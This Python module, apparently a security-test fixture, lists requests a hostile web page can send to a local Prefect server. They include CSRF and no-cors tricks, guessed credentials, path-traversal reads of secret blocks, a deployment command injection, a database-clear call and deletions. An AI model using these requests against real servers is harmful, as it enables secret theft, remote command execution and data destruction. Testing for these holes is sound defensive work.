"""What a web page may send to a Prefect server on the visitor's machine.

Paths and bodies are those of Prefect 3.8's API. tests/samples/attacking_page.js sends
them as a page can. Braces hold names and ids of objects on the attacked server, which
the page is supposed to know.
"""

from __future__ import annotations

import json
from base64 import b64encode
from dataclasses import dataclass, field
from typing import Any, Iterator
from uuid import uuid4

# In the name of everything that an attack makes.
MARK = "made-by-a-page"
COMMAND = "touch {stolen}"

JSON = "application/json"
CLIENT = "00000000-0000-4000-8000-00000000000a"


@dataclass(frozen=True)
class Attack:
    """One thing that a page does, with a function of attacking_page.js."""

    name: str
    function: str
    url: str
    """Path on the attacked server, or a whole address."""
    options: dict[str, Any] = field(default_factory=dict)

    def filled(self, server: str, page: str, ids: dict[str, str]) -> dict[str, Any]:
        """Return the argument of `attack()` in attacking_page.js.

        Args:
            server: Address of the attacked server.
            page: Address of the page's own server.
            ids: Values of what stands in braces.
        """
        url = self.url if self.url.startswith(("http", "{")) else server + self.url
        found = json.dumps(
            {"name": self.name, "url": url, "function": self.function} | self.options
        )
        names = {"server": server, "page": page, "event": str(uuid4())}
        for name, value in (ids | names).items():
            found = found.replace(f"{{{name}}}", value)
        return json.loads(found) | {"name": self.name}


def _basic(password: str) -> str:
    return f"Basic {b64encode(password.encode()).decode()}"


def _flow(name: str) -> str:
    return json.dumps({"name": f"{MARK} {{origin}} {name}"})


SIMPLE: dict[str, Any] = {"mode": "no-cors", "method": "POST"}
# Ways to send a request with a body. No preflight precedes the first ones.
WAYS: dict[str, tuple[str, dict[str, Any]]] = {
    "no-cors without a type": ("fetched", SIMPLE),
    "no-cors as text/plain": ("fetched", SIMPLE | {"type": "text/plain"}),
    "no-cors as a form": (
        "fetched",
        SIMPLE | {"type": "application/x-www-form-urlencoded"},
    ),
    "no-cors as parts": ("fetched", SIMPLE | {"type": "multipart/form-data"}),
    "no-cors as JSON": ("fetched", SIMPLE | {"type": JSON}),
    "no-cors with credentials": ("fetched", SIMPLE | {"credentials": "include"}),
    "no-cors, kept alive": ("fetched", SIMPLE | {"keepalive": True}),
    "beacon": ("beacon", {}),
    "form as text/plain": ("form", {"type": "text/plain"}),
    "form, urlencoded": ("form", {"type": "application/x-www-form-urlencoded"}),
    "form in parts": ("form", {"type": "multipart/form-data"}),
    "cors as JSON": ("fetched", {"method": "POST", "type": JSON}),
    "cors without a type": ("fetched", {"method": "POST"}),
    "cors with credentials": (
        "fetched",
        {"method": "POST", "type": JSON, "credentials": "include"},
    ),
    "cors with a forged CSRF token": (
        "fetched",
        {
            "method": "POST",
            "type": JSON,
            "headers": {"Prefect-Csrf-Token": "0" * 64, "Prefect-Csrf-Client": CLIENT},
        },
    ),
    "cors with a CSRF token of its own": (
        "with_token",
        {"method": "POST", "type": JSON, "client": CLIENT},
    ),
    "cors as another method": (
        "fetched",
        {
            "method": "POST",
            "type": JSON,
            "headers": {
                "X-HTTP-Method-Override": "GET",
                "X-Forwarded-For": "127.0.0.1",
            },
        },
    ),
    "XMLHttpRequest": ("xhr", {"method": "POST", "type": JSON}),
}
TOKEN = WAYS["cors with a CSRF token of its own"]

GUESSES = {
    "empty": "Basic ",
    "no password": _basic(""),
    "colon": _basic(":"),
    "admin": _basic("admin:admin"),
    "null": _basic("None"),
    "dev": _basic("dev:dev"),
    "bearer": "Bearer dev",
    "not base64": "Basic %%%",
    "two words": "Basic dev dev",
}


def creating_a_flow() -> Iterator[Attack]:
    """Yield each way of sending, with a request that creates a flow."""
    for name, (function, options) in WAYS.items():
        body = {"body": _flow(name)}
        yield Attack(name, function, "/api/flows/", options | body)
    for host in ("localhost", "0.0.0.0", "127.1", "[::1]"):
        options = SIMPLE | {"body": _flow(host)}
        yield Attack(
            f"address {host}", "fetched", f"http://{host}:{{port}}/api/flows/", options
        )
    for kind, function in {"fetch": "fetched", "form": "form"}.items():
        options = SIMPLE | {"body": _flow(f"redirect {kind}"), "type": "text/plain"}
        if function == "fetched":
            del options["type"]
        redirect = "{page}/redirect?to={server}/api/flows/"
        yield Attack(f"redirect of a {kind}", function, redirect, options)
    for name, value in GUESSES.items():
        options = {
            "method": "POST",
            "type": JSON,
            "headers": {"Authorization": value},
            "body": _flow(f"guess {name}"),
        }
        yield Attack(f"password {name}", "with_token", "/api/flows/", options)
    for path in ("/api/flows", "/api//flows/", "/api/health/../flows/"):
        options = SIMPLE | {"body": _flow(path)}
        yield Attack(f"path {path}", "fetched", path, options)


# Requests that change something, the destructive ones last.
COMMANDS: tuple[tuple[str, str, Any], ...] = (
    (
        "POST",
        "/deployments/",
        {
            "name": f"{MARK} {{origin}} {{way}}",
            "flow_id": "{flow}",
            "work_pool_name": "{pool}",
            "job_variables": {"command": COMMAND},
        },
    ),
    (
        "POST",
        "/deployments/{deployment}/create_flow_run",
        {"name": f"{MARK} {{origin}} {{way}}", "job_variables": {"command": COMMAND}},
    ),
    (
        "POST",
        "/flow_runs/",
        {"name": f"{MARK} {{origin}} {{way}}", "flow_id": "{flow}"},
    ),
    (
        "POST",
        "/flow_runs/{run}/set_state",
        {
            "state": {"type": "CANCELLED", "name": f"{MARK} {{origin}} {{way}}"},
            "force": True,
        },
    ),
    (
        "POST",
        "/block_documents/",
        {
            "name": f"{MARK}-{{number}}",
            "block_type_id": "{block_type}",
            "block_schema_id": "{block_schema}",
            "data": {"value": MARK},
        },
    ),
    (
        "POST",
        "/variables/",
        {"name": MARK.replace("-", "_") + "_{number}", "value": 1},
    ),
    ("POST", "/work_pools/", {"name": f"{MARK} {{origin}} {{way}}", "type": "process"}),
    (
        "POST",
        "/automations/",
        {
            "name": f"{MARK} {{origin}} {{way}}",
            "trigger": {
                "type": "event",
                "posture": "Reactive",
                "expect": ["prefect.flow-run.Completed"],
                "threshold": 1,
                "within": 0,
            },
            "actions": [{"type": "run-deployment", "deployment_id": "{deployment}"}],
        },
    ),
    (
        "POST",
        "/logs/",
        [
            {
                "name": MARK,
                "level": 20,
                "message": MARK,
                "timestamp": "2026-11-01T00:00:00Z",
                "flow_run_id": "{run}",
            }
        ],
    ),
    ("POST", "/artifacts/", {"key": MARK, "type": "markdown", "data": MARK}),
    (
        "POST",
        "/v2/concurrency_limits/",
        {"name": f"{MARK} {{origin}} {{way}}", "limit": 1},
    ),
    ("PUT", "/saved_searches/", {"name": f"{MARK} {{origin}} {{way}}", "filters": []}),
    (
        "PUT",
        "/admin/storage",
        {"default_result_storage_block_id": "{block}"},
    ),
    ("PATCH", "/deployments/{deployment}", {"job_variables": {"command": COMMAND}}),
    ("PATCH", "/flow_runs/{run}", {"name": MARK}),
    ("PATCH", "/work_pools/{pool}", {"description": MARK, "is_paused": True}),
    ("PATCH", "/block_documents/{block}", {"data": {"value": MARK}}),
    ("PATCH", "/variables/name/{variable}", {"value": MARK}),
    ("POST", "/admin/database/clear", {"confirm": True}),
    ("POST", "/flow_runs/bulk_delete", {"flow_runs": {"id": {"any_": ["{run}"]}}}),
    ("DELETE", "/deployments/{deployment}", None),
    ("DELETE", "/block_documents/{block}", None),
    ("DELETE", "/variables/name/{variable}", None),
    ("DELETE", "/flows/{flow}", None),
    ("DELETE", "/work_pools/{pool}", None),
)


def commanding() -> Iterator[Attack]:
    """Yield each request that changes something, in the two strongest ways."""
    for number, (method, path, content) in enumerate(COMMANDS):
        for way in (None, "token"):
            if way is None and method != "POST":
                continue  # never without a preflight
            function, options = TOKEN if way else ("fetched", SIMPLE)
            body = json.dumps(content).replace("{way}", str(way))
            body = body.replace("{number}", f"{number}{'b' if way else 'a'}")
            yield Attack(
                f"{method} {path}{' with a token' if way else ''}",
                function,
                f"/api{path}",
                options | {"method": method, "body": body if content else None},
            )


# Paths that are read by GET.
READS = (
    "/block_documents/{block}?include_secrets=true",
    "/block_types/slug/secret/block_documents/name/{block_name}?include_secrets=true",
    "/variables/name/{variable}",
    "/flows/{flow}",
    "/flow_runs/{run}",
    "/deployments/{deployment}",
    "/work_pools/{pool}",
    "/artifacts/{artifact}",
    "/admin/settings",
    "/admin/version",
    f"/csrf-token?client={CLIENT}",
    "/logs/../block_documents/{block}?include_secrets=true",
    "/%62lock_documents/{block}?include_secrets=true",
    "/health/../block_documents/{block}?include_secrets=true",
)
# Paths that are read by POST.
FILTERS: dict[str, dict[str, Any]] = {
    "/block_documents/filter": {"include_secrets": True},
    "/variables/filter": {},
    "/flows/filter": {},
    "/flow_runs/filter": {},
    "/deployments/filter": {},
    "/logs/filter": {},
    "/artifacts/filter": {},
    "/work_pools/filter": {},
    "/events/filter": {},
    "/ui/flow_runs/history": {"sort": "EXPECTED_START_TIME_ASC"},
}
ELEMENTS = ("image", "script", "stylesheet", "iframe", "embed", "event source", "popup")


def reading() -> Iterator[Attack]:
    """Yield each way to read, and each thing to read."""
    for path in READS:
        yield Attack(f"GET {path}", "fetched", f"/api{path}", {"method": "GET"})
    for path, content in FILTERS.items():
        body = {"body": json.dumps(content)}
        for function, options in (("fetched", WAYS["cors as JSON"][1]), TOKEN):
            name = f"POST {path} {function}"
            yield Attack(name, function, f"/api{path}", options | body)
    secret = f"/api{READS[0]}"
    for element in ELEMENTS:
        yield Attack(f"{element}", "element", secret, {"kind": element})
    for options in (
        {"method": "GET", "credentials": "include"},
        {"method": "GET", "mode": "no-cors", "credentials": "include"},
        {"method": "HEAD"},
        {"method": "OPTIONS"},
    ):
        yield Attack(f"secret, {options}", "fetched", secret, options)
    for name, value in GUESSES.items():
        options = {"method": "GET", "headers": {"Authorization": value}}
        yield Attack(f"secret, password {name}", "fetched", secret, options)
    redirect = f"{{page}}/redirect?to={{server}}{secret}"
    yield Attack("secret, by a redirect", "fetched", redirect, {"method": "GET"})


EVENT = {
    "occurred": "2026-11-01T00:00:00Z",
    "event": f"{MARK} {{origin}}",
    "resource": {"prefect.resource.id": MARK},
    "id": "{event}",
}
EVERYTHING = {
    "type": "filter",
    "backfill": True,
    "filter": {"occurred": {"since": "2020-01-01T00:00:00Z", "until": "{tomorrow}"}},
}
# What a page sends to the paths of WebSockets, after it has signed in or not.
SOCKETS: dict[str, Any] = {
    "/events/in": EVENT,
    "/events/out": EVERYTHING,
    "/logs/out": {"type": "filter", "filter": {}},
    "/task_runs/subscriptions/scheduled": {
        "type": "subscribe",
        "keys": ["a"],
        "client_id": MARK,
    },
}
# Few, because Chromium delays a page's connections after some that failed.
SIGN_IN: dict[str, tuple[list[str], list[Any]]] = {
    "without the protocol": ([], []),
    "without a token": (["prefect"], [{"type": "auth"}]),
    "null": (["prefect"], [{"type": "auth", "token": None}]),
    "empty": (["prefect"], [{"type": "auth", "token": ""}]),
    "guess": (["prefect"], [{"type": "auth", "token": "dev:dev"}]),
    "no sign-in": (["prefect"], []),
}


def listening() -> Iterator[Attack]:
    """Yield each WebSocket with ways to sign in, one of them with all."""
    for path, message in SOCKETS.items():
        ways = list(SIGN_IN.items())[: None if path == "/events/in" else 2]
        for name, (protocols, first) in ways:
            messages = [json.dumps(each) for each in (*first, message)]
            options = {"protocols": protocols, "messages": messages}
            yield Attack(f"socket {path}, {name}", "socket", f"/api{path}", options)


def attacks() -> list[Attack]:
    """Return all attacks, those that delete last."""
    return [*reading(), *listening(), *creating_a_flow(), *commanding()]


def attacks_in_each_way() -> list[Attack]:
    """Return those that differ in how they are sent, not in what they ask for."""
    elements = [each for each in reading() if each.function == "element"]
    return [*elements, *listening(), *creating_a_flow()]


def essential_attacks() -> list[Attack]:
    """Return some that succeed on a server with Prefect's own settings."""
    names = {
        f"GET {READS[0]}",
        "socket /events/in, without a token",
        "socket /events/out, without a token",
        "no-cors without a type",
        "beacon",
        "cors as JSON",
        "POST /deployments/",
        "POST /deployments/{deployment}/create_flow_run",
    }
    return [each for each in attacks() if each.name in names]
